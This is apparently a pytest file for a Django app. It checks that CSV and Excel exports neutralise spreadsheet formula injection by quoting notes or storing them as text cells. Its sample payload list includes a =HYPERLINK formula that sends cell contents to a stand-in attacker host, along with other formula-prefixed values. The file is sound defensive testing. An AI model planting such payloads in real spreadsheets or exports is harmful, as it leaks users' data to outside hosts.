"""Exports never hand a spreadsheet a formula: notes typed or imported as ``=HYPERLINK(...)``
come out of the CSV quoted and out of the .xlsx as text cells (issue 11, hole 4)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from concord.performance.models import Observation, Target
from concord.performance.tabular.export import export_observations, export_targets
from concord.performance.tabular.observations import import_observations
from concord.performance.tabular.targets import import_targets
from tests.factories import make_secretariat_user
from tests.performance.perf_factories import make_indicator, small_world

pytestmark = pytest.mark.django_db

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


def csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@pytest.fixture
def figures():
    world = small_world()
    make_indicator(code="HX 1", frequency="quarterly")
    header = ["indicator", "area", "period", "value", "note"]
    rows = [["HX 1", f"W000000{i + 1}", "2009-Q2", "-4.5", note] for i, note in enumerate(NASTY)]
    result = import_observations(csv_bytes([header, *rows]), filename="figures.csv")
    assert result.ok, result.errors
    targets = [["indicator", "area", "period", "value", "note"]] + [
        ["HX 1", f"W000000{i + 1}", "2010-Q2", "5", note] for i, note in enumerate(NASTY)
    ]
    result = import_targets(csv_bytes(targets), filename="targets.csv")
    assert result.ok, result.errors
    return world


def test_the_csv_export_quotes_every_formula_like_note_and_keeps_numbers(figures):
    for exported in (
        export_observations(Observation.objects.all(), "csv"),
        export_targets(Target.objects.all(), "csv"),
    ):
        rows = list(csv.reader(io.StringIO(exported.decode())))
        notes = [row[rows[0].index("note")] for row in rows[1:]]
        assert sorted(notes) == sorted("'" + n for n in NASTY)
        assert all(not n.startswith(("=", "+", "-", "@", "\t")) for n in notes)
    rows = list(csv.reader(io.StringIO(export_observations(Observation.objects.all()).decode())))
    assert {row[3] for row in rows[1:]} == {"-4.5"}


def test_the_xlsx_export_writes_notes_as_text_cells_not_formulas(figures):
    for exported in (
        export_observations(Observation.objects.all(), "xlsx"),
        export_targets(Target.objects.all(), "xlsx"),
    ):
        sheet = load_workbook(io.BytesIO(exported)).active
        header = [c.value for c in sheet[1]]
        column = header.index("note")
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert sorted(c.value for c in cells) == sorted(NASTY)
        assert {c.data_type for c in cells} == {"s"}
        assert all(c.quotePrefix for c in cells)
    sheet = load_workbook(io.BytesIO(export_observations(Observation.objects.all(), "xlsx"))).active
    values = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in values} == {(-4.5, "n")}


def test_quoted_exports_import_back_unchanged(figures):
    for fmt in ("csv", "xlsx"):
        again = import_observations(export_observations(Observation.objects.all(), fmt))
        assert (again.unchanged, again.created, again.updated) == (len(NASTY), 0, 0)
        again = import_targets(export_targets(Target.objects.all(), fmt), filename=f"t.{fmt}")
        assert again.ok and again.created == 0 and again.updated == 0, again.errors
    assert sorted(Observation.objects.values_list("note", flat=True)) == sorted(NASTY)


def test_the_download_pages_serve_the_neutralised_files(client, figures):
    client.force_login(make_secretariat_user())
    response = client.get(reverse("performance:export", args=["observations", "csv"]))
    assert "'=HYPERLINK(" in response.content.decode()
    response = client.get(reverse("performance:export", args=["targets", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
